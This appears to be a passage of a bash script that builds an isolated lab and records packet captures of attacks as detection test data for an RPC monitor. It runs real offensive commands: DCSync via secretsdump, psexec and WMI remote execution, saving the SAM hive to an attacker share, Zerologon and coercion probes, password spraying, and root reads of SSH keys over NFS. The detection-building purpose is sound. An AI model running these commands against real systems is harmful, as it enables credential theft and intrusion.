#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# Regenerates rpcmon's attack captures (tests/data/lab/attacks/attack-*.pcap): real attack tools
# (impacket examples, rpcclient/smbclient/net, nmap, rpcinfo, libnfs) and the small scripts in
# tools/lab/attacks/ run in a lab's client namespace against Samba (standalone smbd, AD DC) and
# nfs-ganesha in its server namespace; tcpdump records the server veth. Many calls fail server-
# side (Samba does not implement every Windows interface): the request is on the wire, which is
# what rpcmon's ATT&CK-mapped detections must see. Each NAME.pcap gets NAME.txt: the commands with
# exit codes, what tshark finds per command (DCE/RPC binds by interface UUID, requests by
# interface/opnum, ONC calls by program/version/procedure/uid, SMB2 pipe opens, logon results),
# the checks, totals, and the client output.
#
# Usage:
#   tools/lab/attacks.sh [-o DIR] [CAPTURE...]
#     -o DIR     output directory (default: tests/data/lab/attacks of this repo)
#     CAPTURE    any of the names below without "attack-" (default: all), e.g. samr-enum coerce
#
# Environment:
#   ATTACKS_N=N      lab subnet 10.203.N.0/24 (default 204: stable addresses in the captures)
#   ATTACKS_LAB=NAME lab name (default attacks; part of the NFS export path in attack-nfs-root)
#   ATTACKS_KEEP=1   keep the scratch directory (raw pcaps, client output)
#   LAB_OFFLOAD      as in netns.sh (default off)
#
# Servers: standalone smbd (user alice) for share-enum, null-session, auth-failures, ms08-067;
# the AD DC (LAB.TEST, Administrator) for samr-enum, svcctl, atsvc, winreg, dcsync, coerce,
# zerologon, wmi-dcom; the DC plus rpcbind/ganesha for epm-sweep; ganesha for nfs-root.
# A capture whose expected interface/opnum (or program/procedure) is missing fails the run.
# The lab is removed on exit, failed or not.
set -euo pipefail

HERE=$(dirname "$(readlink -f "$0")")
REPO=$(cd "$HERE/../.." && pwd)
# shellcheck source=tools/lab/netns.sh
source "$HERE/netns.sh"
# shellcheck source=tools/lab/capture_lib.sh
source "$HERE/capture_lib.sh"

OUT=$REPO/tests/data/lab/attacks
if [[ "${1:-}" == -o ]]; then OUT=$(readlink -f "$2"); shift 2; fi
case "${1:-}" in -h|--help) sed -n '3,29p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;; esac
# Grouped by server so each server starts once: smbd, then the DC, then ganesha.
ALL=(share-enum null-session auth-failures ms08-067 benign
     samr-enum rpcclient-enum samrdump lookupsid svcctl atsvc winreg dcsync coerce zerologon wmi-dcom wmiexec rpcdump
     epm-sweep nfs-root onc-probe)
WANT=("$@")
((${#WANT[@]})) || WANT=("${ALL[@]}")
for w in "${WANT[@]}"; do
    [[ " ${ALL[*]} " == *" ${w#attack-} "* ]] || { echo "attacks: unknown capture '$w'" >&2; exit 2; }
done
ORDERED=()
for a in "${ALL[@]}"; do
    for w in "${WANT[@]}"; do [[ "${w#attack-}" == "$a" ]] && { ORDERED+=("$a"); break; }; done
done

LAB=${ATTACKS_LAB:-attacks}
IMPACKET=/usr/share/doc/python3-impacket/examples
SCRIPTS=$HERE/attacks
PY=/usr/bin/python3
export PYTHONDONTWRITEBYTECODE=1   # no __pycache__ in tools/lab/attacks/
WORK=$(mktemp -d /tmp/rpcmon-attacks.XXXXXX)
chmod 0755 "$WORK"
TSHARK=(tshark -o tcp.try_heuristic_first:TRUE)
CMDLOG=""           # "$ cmd    # exit N" lines of the capture being made
CMDWIN=()           # per command: "START END" (epoch seconds) for the per-command tallies
CMDSHOWN=()
TCPDUMP_PID=""
T_START=$SECONDS

capture_lab_start attacks "${ATTACKS_N:-204}" "${ATTACKS_KEEP:-0}"
CLI=$LAB_CLI_IP
echo "attacks: lab $LAB up (cli $CLI, srv $SRV), output in $OUT"

# run [-t SECS] CMD...: CMD in the client namespace (cwd: scratch dir for impacket's leftovers,
# stdin /dev/null so interactive tools end), logged with its exit code and time window.
# A failing client is logged, not fatal: the request on the wire is what matters.
run() {
    local rc=0 shown t=60 t0 t1
    if [[ "$1" == -t ]]; then t=$2; shift 2; fi
    shown="$(quote "$@")"
    shown=${shown% }
    printf '\n$ %s\n' "$shown" >>"$WORK/client.log"
    t0=$(date +%s.%N)
    (cd "$WORK/scratch" && timeout "$t" ip netns exec "$LAB_CLI_NS" "$@") \
        </dev/null >>"$WORK/client.log" 2>&1 || rc=$?
    t1=$(date +%s.%N)
    CMDLOG+="\$ $shown    # exit $rc"$'\n'
    CMDWIN+=("$t0 $t1")
    CMDSHOWN+=("$shown    # exit $rc")
    echo "  [$rc] $shown" | cut -c1-160
}

cap_begin() {
    local i
    CMDLOG="" CMDWIN=() CMDSHOWN=()
    rm -f "$LAB_STATE/capture/tcpdump.log"
    TCPDUMP_PID=$(lab_spawn "$LAB_SRV_NS" "$LAB_STATE/capture/tcpdump.pid" \
        "$LAB_STATE/capture/tcpdump.log" tcpdump -Z root --immediate-mode -i "$LAB_SRV_IF" -s 0 -U -n -w "$WORK/$1.pcap")
    for ((i = 0; i < 100; i++)); do
        grep -q 'listening on' "$LAB_STATE/capture/tcpdump.log" 2>/dev/null && break
        sleep 0.05
    done
    ((i < 100)) || { echo "attacks: tcpdump did not start" >&2; exit 1; }
    rm -rf "$WORK/scratch"
    mkdir -p "$WORK/scratch"
    : >"$WORK/client.log"
}

# One line per interesting packet: epoch TAB event. Events (first PDU of each packet, as tshark
# shows it):  bind UUID vN | req PROTO opnum N | fault STATUS | onc PROG vN proc N uid U (AUTH_SYS)
# or auth-none |
# smb2-create NAME | smb2-create-fail NAME STATUS | logon-fail STATUS | logon-ok
events() {
    "${TSHARK[@]}" -r "$1" -T fields -E occurrence=f -E separator='|' \
        -Y 'dcerpc.pkt_type == 0 || dcerpc.pkt_type == 11 || dcerpc.pkt_type == 3 || rpc.msgtyp == 0 || smb2.cmd == 5 || (smb2.cmd == 1 && smb2.flags.response == 1)' \
        -e frame.time_epoch -e dcerpc.pkt_type -e _ws.col.Protocol -e dcerpc.opnum \
        -e dcerpc.cn_bind_to_uuid -e dcerpc.cn_bind_if_ver -e dcerpc.cn_status \
        -e rpc.msgtyp -e rpc.program -e rpc.programversion -e rpc.procedure -e rpc.auth.uid \
        -e smb2.cmd -e smb2.flags.response -e smb2.filename -e smb2.nt_status -e tcp.dstport \
        2>/dev/null | awk -F'|' '
        function transport(p) { return (p == 445 ? "smb2" : "tcp/" p) }
        {
            t = $1
            if ($2 == "11") print t "\tbind " toupper($5) " v" $6 " (" transport($17) ")"
            else if ($2 == "0") print t "\treq " $3 " opnum " $4 " (" transport($17) ")"
            else if ($2 == "3") print t "\tfault " $7
            else if ($8 == "0") print t "\tonc prog " $9 " v" $10 " proc " $11 ($12 == "" ? " auth-none" : " uid " $12)
            else if ($13 == "5" && $14 == "0") print t "\tsmb2-create " $15
            else if ($13 == "5" && $16 != "0x00000000") print t "\tsmb2-create-failed " $16
            else if ($13 == "1" && $16 == "0x00000000") print t "\tlogon-ok"
            else if ($13 == "1" && $16 != "0xc0000016") print t "\tlogon-failed " $16
        }'
}

# cap_end NAME DESC FILTER...: stops tcpdump, checks each FILTER matches >= 1 packet, writes
# NAME.pcap and NAME.txt.
cap_end() {
    local short=$1 name=attack-$1 desc=$2 f n pcap=$WORK/$1.pcap txt counts="" bytes i w e
    shift 2
    capture_stop_check "$name" "$pcap" "$@"
    counts=$COUNTS
    events "$pcap" >"$WORK/$short.events"
    bytes=$(stat -c %s "$pcap")
    cp "$pcap" "$OUT/$name.pcap"
    txt=$OUT/$name.txt
    {
        echo "# $name.pcap — generated by tools/lab/attacks.sh $short (do not edit by hand)"
        echo "#"
        echo "# $desc" | fold -s -w 98 | sed '2,$s/^/# /'
        echo "#"
        echo "# Topology: client (attacker) $CLI (namespace *-cli), server $SRV (namespace *-srv)" \
             "and its aliases; tcpdump -i <server veth> -s 0 -U --immediate-mode, offloads $LAB_OFFLOAD."
        echo "# Size: $bytes bytes, $("${TSHARK[@]}" -r "$pcap" 2>/dev/null | wc -l) packets." \
             "All counts: tshark -o tcp.try_heuristic_first:TRUE, one per packet (first PDU)."
        echo
        echo "## Client commands (client namespace, in this order; SRV=$SRV, CLI=$CLI)"
        printf '%s' "$CMDLOG"
        echo
        echo "## Per command: what tshark sees while it ran (count, event)"
        echo "##   bind UUID vN (transport) = DCE/RPC Bind; req PROTO opnum N = DCE/RPC Request;"
        echo "##   fault = DCE/RPC Fault status; onc = ONC RPC call; smb2-create = SMB2 CREATE"
        echo "##   request (pipe/file name); logon-* = SMB2 SESSION_SETUP final response"
        # A command's window runs from its start to the next command's start (late replies
        # and FINs stay with the command that caused them; windows never overlap).
        for ((i = 0; i < ${#CMDWIN[@]}; i++)); do
            w=${CMDWIN[$i]}
            e=9999999999
            ((i + 1 < ${#CMDWIN[@]})) && { e=${CMDWIN[$((i + 1))]}; e=${e% *}; }
            echo "\$ ${CMDSHOWN[$i]}"
            awk -F'\t' -v a="${w% *}" -v b="$e" '$1 >= a + 0 && $1 < b + 0 { print $2 }' \
                "$WORK/$short.events" | sort | uniq -c | sed 's/^/  /'
        done
        echo
        echo "## Checks (packets matching each display filter; all must be > 0)"
        printf '%s' "$counts"
        echo
        echo "## Totals: DCE/RPC requests per protocol column/opnum, binds per interface UUID,"
        echo "## ONC calls per program/version/procedure, source -> destination:port of requests"
        cut -f2 "$WORK/$short.events" | sort | uniq -c
        "${TSHARK[@]}" -r "$pcap" -Y 'dcerpc.pkt_type == 0 || rpc.msgtyp == 0 || (smb2 && smb2.flags.response == 0)' \
            -T fields -E occurrence=f -e ip.src -e ip.dst -e tcp.dstport -e udp.dstport 2>/dev/null |
            awk '{ print "  " $1 " -> " $2 ":" $3 }' | sort | uniq -c | sed 's/^ *\([0-9]*\)/  requests \1/'
        echo
        echo "## Client output"
        sed 's/[[:space:]]*$//' "$WORK/client.log" | grep -av '^Impacket v' | cat -v | sed -n 1,400p
    } >"$txt"
    echo "attacks: wrote $name.pcap ($bytes bytes)"
    printf '%s' "$counts" | sed 's/^/    /'
}

# --- servers ---------------------------------------------------------------------------------

smb_up=0 dc_up=0 onc_up=0
smb_ensure() {
    ((smb_up)) && return 0
    dc_down
    "$HERE/smb_server.sh" start "$LAB" 2>/dev/null
    # shellcheck disable=SC1091
    source "$LAB_STATE/smb.env"
    SMBU="$LAB_SMB_USER%$LAB_SMB_PASS"
    smb_up=1
}
smb_down() { ((smb_up)) || return 0; "$HERE/smb_server.sh" stop "$LAB" >/dev/null; smb_up=0; }
dc_ensure() {
    ((dc_up)) && return 0
    smb_down
    "$HERE/dc_server.sh" start "$LAB"
    # shellcheck disable=SC1091
    source "$LAB_STATE/dc.env"
    DCU="$LAB_DC_ADMIN%$LAB_DC_PASS"
    DCI="$LAB_DC_DOMAIN/$LAB_DC_ADMIN:$LAB_DC_PASS@$SRV"
    dc_up=1
}
dc_down() { ((dc_up)) || return 0; "$HERE/dc_server.sh" stop "$LAB" >/dev/null; dc_up=0; }
onc_ensure() {
    ((onc_up)) && return 0
    "$HERE/onc_server.sh" start "$LAB" | sed -n 1p
    # shellcheck disable=SC1091
    source "$LAB_STATE/onc.env"
    onc_up=1
}
onc_down() { ((onc_up)) || return 0; "$HERE/onc_server.sh" stop "$LAB" >/dev/null; onc_up=0; }

# --- captures on the standalone smbd ---------------------------------------------------------

cap_share_enum() {
    smb_ensure
    cap_begin share-enum
    run rpcclient -U "$SMBU" "$SRV" \
        -c 'srvinfo;netshareenumall;netsessenum;netconnenum;wkssvc_wkstagetinfo;wkssvc_enumerateusers'
    run smbclient -L "$SRV" -U "$SMBU"
    run -t 30 $PY "$IMPACKET/netview.py" -noloop -target "$SRV" "LABGROUP/$LAB_SMB_USER:$LAB_SMB_PASS"
    cap_end share-enum "Share/session/user discovery (T1135 network share discovery, T1049 network connections, T1033 logged-on users) against the standalone smbd as $LAB_SMB_USER: rpcclient srvinfo/netshareenumall/netsessenum/netconnenum and wkssvc wkstagetinfo/enumerateusers, smbclient -L, impacket netview.py -noloop (NetrShareEnum, NetrSessionEnum, NetrWkstaUserEnum; Samba refuses some levels)." \
        'srvsvc.opnum == 15' \
        'srvsvc.opnum == 12' \
        'srvsvc.opnum == 8' \
        'srvsvc.opnum == 21' \
        'wkssvc.opnum == 0' \
        'wkssvc.opnum == 2'
}

cap_null_session() {
    smb_ensure
    cap_begin null-session
    run rpcclient -U '' -N "$SRV" -c 'srvinfo;enumdomusers;enumdomgroups;querydominfo;lsaquery;lookupnames root;netshareenumall'
    run smbclient -N -L "$SRV"
    run $PY "$IMPACKET/samrdump.py" -no-pass "@$SRV"
    run $PY "$IMPACKET/lookupsid.py" -no-pass "@$SRV" 550
    cap_end null-session "Anonymous (null session: empty user, no password) SMB logon to the standalone smbd, then IPC\$ pipes samr/lsarpc/srvsvc: rpcclient -U '' -N, smbclient -N -L, impacket samrdump.py and lookupsid.py with an empty identity. Samba allows the anonymous IPC\$ session and the binds; many calls are refused (access denied)." \
        'ntlmssp.messagetype == 3' \
        'dcerpc.cn_bind_to_uuid == 12345778-1234-abcd-ef00-0123456789ac' \
        'dcerpc.pkt_type == 0 && samr' \
        'dcerpc.pkt_type == 0 && lsarpc'
}

cap_auth_failures() {
    local i u
    smb_ensure
    cap_begin auth-failures
    for ((i = 1; i <= 10; i++)); do
        run smbclient -L "$SRV" -U "$LAB_SMB_USER%wrong-password-$i"
    done
    for ((i = 1; i <= 10; i++)); do
        run rpcclient -U "$LAB_SMB_USER%Winter2024-$i" "$SRV" -c 'srvinfo'
    done
    for u in administrator admin bob carol dave eve guest backup svc_sql test; do
        run smbclient -L "$SRV" -U "$u%Spring2024!"
    done
    cap_end auth-failures "Brute force / password spraying (T1110): 30 failed NTLM logons against the standalone smbd: 10 × smbclient -L as $LAB_SMB_USER with wrong passwords, 10 × rpcclient as $LAB_SMB_USER with wrong passwords, 10 × smbclient -L spraying one password over 10 user names (unknown users fail the same way: map to guest = never). Every SESSION_SETUP ends in STATUS_LOGON_FAILURE (0xc000006d); no pipe is opened." \
        'smb2.cmd == 1 && smb2.nt_status == 0xc000006d'
}

cap_ms08_067() {
    smb_ensure
    cap_begin ms08-067
    run $PY "$SCRIPTS/ms08_067.py" "$LAB_SMB_USER:$LAB_SMB_PASS@$SRV"
    run $PY "$SCRIPTS/ms08_067.py" "@$SRV"
    cap_end ms08-067 "MS08-067 style probe (T1210): srvsvc NetprPathCanonicalize (opnum 31) with path-traversal paths and NetprPathCompare (opnum 32) over \\pipe\\srvsvc of the standalone smbd (tools/lab/attacks/ms08_067.py), once as $LAB_SMB_USER, once over a null session. Samba does not implement them (fault nca_s_op_rng_error)." \
        'srvsvc.opnum == 31' \
        'srvsvc.opnum == 32'
}

# Benign clients (must raise no severity 1-2 alert): file copies over SMB, rpcclient srvinfo,
# a password change and the password policy query, rpcinfo -p once, libnfs copies as uid 1000.
cap_benign() {
    smb_ensure
    onc_ensure
    cap_begin benign
    echo "local file for the rpcmon lab" >"$WORK/scratch/upload.txt"
    run smbclient "//$SRV/$LAB_SMB_SHARE" -U "$SMBU" -c 'ls; get readme.txt readme.txt; put upload.txt upload.txt; get upload.txt back.txt'
    run rpcclient -U "$SMBU" "$SRV" -c 'srvinfo'
    run rpcclient -U "$SMBU" "$SRV" -c 'getdompwinfo'
    run rpcclient -U "$SMBU" "$SRV" -c "chgpasswd2 $LAB_SMB_USER $LAB_SMB_PASS Lab-Changed-Pw9!"
    run rpcclient -U "$LAB_SMB_USER%Lab-Changed-Pw9!" "$SRV" -c "chgpasswd2 $LAB_SMB_USER Lab-Changed-Pw9! $LAB_SMB_PASS"
    run rpcinfo -p "$SRV"
    run nfs-cp "nfs://$SRV$LAB_NFS_EXPORT/hello.txt?version=3&uid=1000&gid=1000" hello3.txt
    run nfs-cp hello3.txt "nfs://$SRV$LAB_NFS_EXPORT/pub/copy3.txt?version=3&uid=1000&gid=1000"
    run nfs-cp "nfs://$SRV$LAB_NFS_PSEUDO/hello.txt?version=4&uid=1000&gid=1000" hello4.txt
    run nfs-ls "nfs://$SRV$LAB_NFS_EXPORT/pub?version=3&uid=1000&gid=1000"
    cap_end benign "Benign clients (no severity 1-2 alert expected): smbclient as $LAB_SMB_USER lists the share, downloads and uploads a file; rpcclient srvinfo, getdompwinfo (SamrGetDomainPasswordInformation) and chgpasswd2 (SamrUnicodeChangePasswordUser2) there and back against the standalone smbd; rpcinfo -p once (portmapper DUMP); libnfs nfs-cp/nfs-ls as uid 1000 (NFSv3 read and write into pub/, NFSv4 read) against nfs-ganesha." \
        'smb2.cmd == 8' \
        'srvsvc.opnum == 21' \
        'samr.opnum == 55' \
        'rpc.msgtyp == 0 && rpc.program == 100000 && rpc.procedure == 4' \
        'rpc.msgtyp == 0 && rpc.program == 100003 && rpc.auth.uid == 1000'
}

# --- captures on the AD DC -------------------------------------------------------------------

# One tool per capture, as the issue's examples: each must raise its technique on its own.
cap_rpcclient_enum() {
    dc_ensure
    cap_begin rpcclient-enum
    run rpcclient -U "$DCU" "$SRV" -c 'enumdomusers;netshareenumall'
    cap_end rpcclient-enum "Account and share discovery (T1087.002, T1135) with one rpcclient command against the AD DC as $LAB_DC_ADMIN: enumdomusers (SamrEnumerateUsersInDomain) and netshareenumall (NetrShareEnum level 1)." \
        'samr.opnum == 13' \
        'srvsvc.opnum == 15'
}

cap_samrdump() {
    dc_ensure
    cap_begin samrdump
    run $PY "$IMPACKET/samrdump.py" "$DCI"
    cap_end samrdump "Account discovery (T1087.002) with impacket samrdump.py alone against the AD DC as $LAB_DC_ADMIN: SamrEnumerateUsersInDomain, then SamrOpenUser + SamrQueryInformationUser2 per account of the small lab domain." \
        'samr.opnum == 13' \
        'samr.opnum == 47'
}

cap_lookupsid() {
    dc_ensure
    cap_begin lookupsid
    run $PY "$IMPACKET/lookupsid.py" "$DCI" 600
    cap_end lookupsid "Account discovery by SID brute force (T1087.002) with impacket lookupsid.py alone against the AD DC as $LAB_DC_ADMIN: LsarQueryInformationPolicy2 for the domain SID, then LsarLookupSids with RIDs 0-600 in one call." \
        'lsarpc.opnum == 15 || lsarpc.opnum == 57 || lsarpc.opnum == 76'
}

cap_wmiexec() {
    dc_ensure
    cap_begin wmiexec
    run $PY "$IMPACKET/wmiexec.py" "$DCI" whoami
    cap_end wmiexec "Remote WMI execution attempt (T1047 / T1021.003) with impacket wmiexec.py alone against the AD DC as $LAB_DC_ADMIN: NTLM bind of ISystemActivator (000001a0-0000-0000-c000-000000000046) on TCP 135, rejected (Samba's 135 serves only the EPM); no call follows." \
        'dcerpc.cn_bind_to_uuid == 000001a0-0000-0000-c000-000000000046'
}

cap_rpcdump() {
    dc_ensure
    cap_begin rpcdump
    run $PY "$IMPACKET/rpcdump.py" -port 135 "$SRV"
    cap_end rpcdump "RPC endpoint discovery (T1046) with impacket rpcdump.py alone against the AD DC: ept_lookup (opnum 2) walking the whole endpoint map on TCP 135 (two calls: the entries, then the end of the list)." \
        'epm.opnum == 2'
}

cap_samr_enum() {
    dc_ensure
    cap_begin samr-enum
    run $PY "$IMPACKET/samrdump.py" "$DCI"
    run $PY "$IMPACKET/lookupsid.py" "$DCI" 600
    run rpcclient -U "$DCU" "$SRV" -c 'enumdomusers;enumdomgroups;enumalsgroups builtin;querygroupmem 0x200;queryuser 500'
    cap_end samr-enum "Account and group discovery (T1087.002 domain accounts, T1069.002 domain groups) against the AD DC as $LAB_DC_ADMIN over SMB2 pipes: impacket samrdump.py (SAMR), lookupsid.py up to RID 600 (LSARPC LsarLookupSids brute force), rpcclient enumdomusers/enumdomgroups/enumalsgroups/querygroupmem (Domain Admins)/queryuser." \
        'samr.opnum == 13' \
        'samr.opnum == 25' \
        'lsarpc.opnum == 15' \
        'lsarpc.opnum == 76 || lsarpc.opnum == 57 || lsarpc.opnum == 15'
}

cap_svcctl() {
    dc_ensure
    cap_begin svcctl
    run $PY "$IMPACKET/services.py" "$DCI" create -name labsvc -display 'Lab Service' -path 'C:\Windows\Temp\lab.exe'
    run $PY "$IMPACKET/services.py" "$DCI" start -name labsvc
    run $PY "$IMPACKET/services.py" "$DCI" list
    run -t 30 $PY "$IMPACKET/smbexec.py" "$DCI"
    run -t 30 $PY "$IMPACKET/psexec.py" "$DCI" whoami
    cap_end svcctl "Remote service creation/execution (T1569.002, T1543.003) against the AD DC as $LAB_DC_ADMIN over \\pipe\\svcctl: impacket services.py create/start/list, smbexec.py (CreateServiceW with a cmd.exe command line), psexec.py (uploads its service binary to the writable sysvol share, then CreateServiceW). Samba's svcctl has no CreateServiceW (fault nca_s_op_rng_error) and no such service to start." \
        'svcctl.opnum == 15' \
        'svcctl.opnum == 12' \
        'svcctl.opnum == 16 || svcctl.opnum == 19' \
        'svcctl.opnum == 14'
}

cap_atsvc() {
    dc_ensure
    cap_begin atsvc
    run $PY "$IMPACKET/atexec.py" "$DCI" whoami
    run $PY "$SCRIPTS/tsch.py" "$SRV"
    cap_end atsvc "Scheduled task creation (T1053.005) against the AD DC: impacket atexec.py as $LAB_DC_ADMIN stops at the SMB2 CREATE of \\pipe\\atsvc (Samba has none: STATUS_OBJECT_NAME_NOT_FOUND); tools/lab/attacks/tsch.py then asks the EPM for ITaskSchedulerService and ATSvc (not registered), binds each on the DC's LSARPC TCP port (rejected: abstract syntax not supported) and sends SchRpcRegisterTask (opnum 1, task XML running cmd.exe) and NetrJobAdd (opnum 0) on the rejected context (fault nca_s_unk_if)." \
        'smb2.filename == "atsvc"' \
        'dcerpc.cn_bind_to_uuid == 86d35949-83c9-4044-b424-db363231fd0c' \
        'taskschedulerservice.opnum == 1' \
        'atsvc.opnum == 0'
}

cap_winreg() {
    local k='HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion'
    dc_ensure
    cap_begin winreg
    run $PY "$IMPACKET/reg.py" "$DCI" query -keyName "$k"
    run $PY "$IMPACKET/reg.py" "$DCI" query -keyName "$k" -v CurrentVersion
    run $PY "$IMPACKET/reg.py" "$DCI" add -keyName "$k" -v LabRun -vt REG_SZ -vd 'C:\Windows\Temp\lab.exe'
    run $PY "$IMPACKET/reg.py" "$DCI" save -keyName 'HKLM\SAM' -o "\\\\$CLI\\share"
    run $PY "$IMPACKET/reg.py" "$DCI" save -keyName 'HKLM\SYSTEM' -o "\\\\$CLI\\share"
    run net rpc shutdown -I "$SRV" -U "$DCU" -t 30 -C 'rpcmon lab'
    run net rpc abortshutdown -I "$SRV" -U "$DCU"
    cap_end winreg "Remote registry (T1012 query, T1112 modify, T1003.002 SAM/SYSTEM hive save) and remote shutdown (T1529) against the AD DC as $LAB_DC_ADMIN: impacket reg.py query/add/save over \\pipe\\winreg (BaseRegSaveKey reaches Samba: ERROR_FILE_NOT_FOUND for SAM, ERROR_BAD_PATHNAME for SYSTEM), net rpc shutdown (initshutdown/winreg InitiateSystemShutdownEx; access denied) and abortshutdown. rpcclient 4.17 has no shutdown command." \
        'winreg.opnum == 2' \
        'winreg.opnum == 15' \
        'winreg.opnum == 22' \
        'winreg.opnum == 20' \
        'initshutdown || winreg.opnum == 24 || winreg.opnum == 30'
}

cap_dcsync() {
    dc_ensure
    cap_begin dcsync
    run $PY "$IMPACKET/secretsdump.py" -just-dc "$DCI"
    run $PY "$IMPACKET/secretsdump.py" -just-dc-user "$LAB_DC_DOMAIN/krbtgt" "$DCI"
    cap_end dcsync "DCSync (T1003.006) against the AD DC as $LAB_DC_ADMIN: impacket secretsdump.py -just-dc and -just-dc-user $LAB_DC_DOMAIN/krbtgt: EPM map for DRSUAPI on 135, then DsBind, DsDomainControllerInfo, DsCrackNames and DsGetNCChanges (opnum 3) on the dynamic TCP port. Samba answers DsGetNCChanges with an error (impacket 0.10 prints ERROR_SUCCESS); no hash is dumped." \
        'dcerpc.pkt_type == 0 && epm' \
        'drsuapi.opnum == 0' \
        'drsuapi.opnum == 3' \
        'drsuapi && tcp.dstport >= 49152'
}

cap_coerce() {
    dc_ensure
    cap_begin coerce
    run $PY "$SCRIPTS/coerce.py" "$DCI" "$CLI"
    cap_end coerce "Authentication coercion (T1187) against the AD DC as $LAB_DC_ADMIN, listener (attacker) $CLI (tools/lab/attacks/coerce.py): MS-EFSR EfsRpcOpenFileRaw/EfsRpcEncryptFileSrv via \\pipe\\lsarpc (bind rejected, requests sent on the rejected context: fault nca_s_unk_if) and via \\pipe\\efsrpc (no such pipe); MS-RPRN RpcOpenPrinter + RpcRemoteFindFirstPrinterChangeNotificationEx with \\\\$CLI (Samba answers RPC_S_SERVER_UNAVAILABLE without connecting back: no packet from the server to $CLI:445); MS-DFSNM NetrDfsAddStdRoot/NetrDfsRemoveStdRoot (fault nca_s_op_rng_error)." \
        'efs.opnum == 0' \
        'efs.opnum == 4' \
        'smb2.filename == "efsrpc"' \
        'spoolss.opnum == 65' \
        'netdfs.opnum == 12'
}

cap_zerologon() {
    dc_ensure
    cap_begin zerologon
    run $PY "$SCRIPTS/zerologon.py" LABDC "$SRV" 20
    cap_end zerologon "Zerologon probe (CVE-2020-1472, T1210) against the AD DC (tools/lab/attacks/zerologon.py): EPM map for netlogon, then on one TCP connection 20 × (NetrServerReqChallenge opnum 4 with an all-zero client challenge, NetrServerAuthenticate3 opnum 26 for LABDC\$ with an all-zero credential). Samba is patched: every NetrServerAuthenticate3 gets STATUS_ACCESS_DENIED." \
        'netlogon.opnum == 4' \
        'netlogon.opnum == 26'
}

cap_wmi_dcom() {
    dc_ensure
    cap_begin wmi-dcom
    run $PY "$IMPACKET/wmiexec.py" "$DCI" whoami
    run $PY "$IMPACKET/dcomexec.py" -object MMC20 "$DCI" whoami
    run $PY "$IMPACKET/dcomexec.py" -object ShellWindows "$DCI" whoami
    run $PY "$SCRIPTS/dcom.py" "$SRV"
    cap_end wmi-dcom "WMI / DCOM remote execution (T1047, T1021.003) against the AD DC: impacket wmiexec.py and dcomexec.py (MMC20, ShellWindows) as $LAB_DC_ADMIN bind ISystemActivator (000001a0-0000-0000-c000-000000000046) with NTLM on TCP 135 and stop at the rejection (Samba's 135 serves only the EPM); tools/lab/attacks/dcom.py binds it without auth and sends RemoteCreateInstance (opnum 4: WbemLevel1Login, MMC20.Application) and RemoteGetClassObject (opnum 3) on the rejected context (fault nca_s_unk_if)." \
        'dcerpc.cn_bind_to_uuid == 000001a0-0000-0000-c000-000000000046' \
        'isystemactivator.opnum == 4' \
        'isystemactivator.opnum == 3'
}

cap_epm_sweep() {
    local a
    dc_ensure
    onc_ensure
    # Two more addresses of the server, so a sweep meets several lab hosts.
    for a in 3 4; do
        ip -n "$LAB_SRV_NS" addr replace "10.203.$LAB_N.$a/24" dev "$LAB_SRV_IF"
    done
    cap_begin epm-sweep
    run $PY "$IMPACKET/rpcdump.py" -port 135 "$SRV"
    run $PY "$IMPACKET/rpcmap.py" "ncacn_ip_tcp:${SRV}[135]"
    run -t 120 $PY "$IMPACKET/rpcmap.py" -brute-uuids "ncacn_ip_tcp:${SRV}[135]"
    for a in 2 3 4; do
        run rpcinfo -p "10.203.$LAB_N.$a"
    done
    if command -v nmap >/dev/null; then
        run -t 120 nmap -n -Pn -sT -p 111,135,2049 --script rpcinfo "10.203.$LAB_N.2-4"
    else
        echo "  nmap not installed: skipped"
        CMDLOG+="# nmap not installed: skipped"$'\n'
    fi
    cap_end epm-sweep "RPC service discovery (T1046) against the server (AD DC on 135, rpcbind + nfs-ganesha on 111/2049; the server also answers on 10.203.$LAB_N.3 and .4): impacket rpcdump.py (EPM lookups on 135), rpcmap.py (MGMT inq_if_ids) and rpcmap.py -brute-uuids (one bind per known interface UUID on 135, nearly all rejected), rpcinfo -p against .2/.3/.4 (portmap DUMP), nmap -sT --script rpcinfo on 111/135/2049 of .2-.4 (portmap DUMP + NULL calls, when nmap is installed)." \
        'epm.opnum == 2' \
        'dcerpc.pkt_type == 11 && tcp.dstport == 135' \
        'rpc.msgtyp == 0 && rpc.program == 100000 && rpc.procedure == 4' \
        "rpc.msgtyp == 0 && ip.dst == 10.203.$LAB_N.3" \
        "rpc.msgtyp == 0 && ip.dst == 10.203.$LAB_N.4"
}

cap_nfs_root() {
    local base u
    onc_ensure
    base="nfs://$SRV$LAB_NFS_EXPORT"
    cap_begin nfs-root
    run nfs-ls "$base/?version=3&uid=0&gid=0"
    run nfs-cat "$base/.ssh/id_rsa?version=3&uid=0&gid=0"
    run nfs-cat "$base/secret.txt?version=3&uid=0&gid=0"
    run nfs-cat "nfs://$SRV$LAB_NFS_PSEUDO/.ssh/id_rsa?version=4&uid=0&gid=0"
    for u in 1000 1001 0 65534; do
        run nfs-ls "$base/.ssh?version=3&uid=$u&gid=$u"
    done
    cap_end nfs-root "NFS data theft as root (T1039 data from network shared drive, T1552.004 private keys) and uid hopping against nfs-ganesha (no_root_squash, AUTH_SYS): libnfs as uid/gid 0 lists the export and reads .ssh/id_rsa and secret.txt (NFSv3) and .ssh/id_rsa (NFSv4); then the same client address lists .ssh as uid 1000, 1001, 0, 65534 in quick succession (AUTH_SYS credentials chosen by the client; only uid 0 may read the 0700 directory). Export path $LAB_NFS_EXPORT." \
        'rpc.msgtyp == 0 && rpc.program == 100003 && rpc.programversion == 3 && rpc.auth.uid == 0' \
        'rpc.msgtyp == 0 && rpc.program == 100003 && rpc.programversion == 4 && rpc.auth.uid == 0' \
        'nfs.procedure_v3 == 6 && rpc.auth.uid == 0' \
        'rpc.auth.uid == 1000' \
        'rpc.auth.uid == 1001' \
        'rpc.auth.uid == 65534'
}

# ONC service discovery as scanners do it at lab scale: nmap --script rpcinfo (portmapper DUMP)
# against three addresses of the server, nmap -sV (version detection: the RPC grinder sends NULL
# calls for one program number after another to each RPC port, answered PROG_UNAVAIL until it
# hits the right one, then PROG_MISMATCH for the version range), rpcinfo against an unregistered
# program.
cap_onc_probe() {
    local a
    onc_ensure
    for a in 3 4; do
        ip -n "$LAB_SRV_NS" addr replace "10.203.$LAB_N.$a/24" dev "$LAB_SRV_IF"
    done
    cap_begin onc-probe
